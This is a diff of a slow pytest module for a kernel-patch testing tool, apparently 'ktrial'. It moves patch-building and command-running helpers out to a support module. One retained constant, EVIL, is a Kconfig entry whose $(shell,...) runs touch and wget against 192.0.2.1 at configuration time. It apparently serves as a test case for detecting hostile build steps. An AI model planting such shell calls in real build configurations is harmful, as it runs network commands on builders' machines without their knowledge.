@@ -4,55 +4,21 @@ Kernels and trees are the user's own cache's, so that what was built once is not
 instructions is `nop`s in functions that a workload executes.
 """
 
-import difflib
 import json
-import re
-import subprocess
-import sys
 from fractions import Fraction
 from pathlib import Path
 from typing import Any
 
 import pytest
-
-from ktrial.kernels.build import debian_source
+from tests.support.planted_series import NOPS, Planted, run
 
 pytestmark = [pytest.mark.slow, pytest.mark.guest, pytest.mark.timeout(6 * 3600)]
-SOURCE = "linux-source-6.1"
-KTRIAL = Path(sys.executable).with_name("ktrial")
 WORKLOADS = ("fork", "pipe", "open", "stat", "syscall")
-NOPS = 'asm volatile(".rept {count}; nop; .endr");'
 OPTION = 'config KTRIAL_PLANTED\n\tbool "Say who the parent is more slowly"\n\tdefault y\n\n'
 PID = "\tpid = task_tgid_vnr(rcu_dereference(current->real_parent));\n"
 STATX = "\terror = filename_lookup(dfd, filename, lookup_flags, &path, NULL);\n"
 ACCESSED = "\t\tfile_accessed(filp);\n"
 EVIL = "config KTRIAL_EVIL\n\tdef_bool $(shell,touch {place} && echo y; wget -T 1 -q 192.0.2.1; echo n)\n\n"
-
-
-class Planted:
-    """Patches, each a change of some files on top of those before it."""
-
-    def __init__(self, place: Path) -> None:
-        self.place = place
-        self._tree = debian_source(SOURCE)
-        self._files: dict[str, str] = {}
-        self.names: list[str] = []
-
-    def patch(self, name: str, path: str, old: str, new: str, *, stays: bool = True) -> None:
-        """Change `old` in the file, which has it once. `stays`: whether later ones build upon it."""
-        before = self._files.get(path) or (self._tree / path).read_text()
-        assert before.count(old) == 1, (name, path, before.count(old))
-        after = before.replace(old, new)
-        one, other = (each.splitlines(keepends=True) for each in (before, after))
-        text = "".join(difflib.unified_diff(one, other, f"a/{path}", f"b/{path}"))
-        self.names.append(f"{len(self.names) + 1:02}-{re.sub('[ ,]+', '-', name)}.patch")
-        (self.place / self.names[-1]).write_text(f"Subject: planted: {name}\n\n---\n{text}")
-        if stays:
-            self._files[path] = after
-
-    def write(self) -> Path:
-        (self.place / "series").write_text("".join(f"{name}\n" for name in self.names))
-        return self.place
 
 
 def twelve(place: Path) -> Path:
@@ -105,19 +71,6 @@ def _with_option(planted: Planted, work: str) -> None:
     (planted.place / one).write_text((planted.place / one).read_text() + added)
     (planted.place / two).unlink()
     planted.names.pop()
-
-
-def run(place: Path, *words: str) -> subprocess.CompletedProcess[str]:
-    command: list[str | Path] = [
-        KTRIAL,
-        "series",
-        "--onto",
-        f"debian:{SOURCE}",
-        "--store",
-        place / "x.db",
-        *words,
-    ]
-    return subprocess.run(command, capture_output=True, text=True, check=False, cwd=place)
 
 
 @pytest.fixture(scope="module")
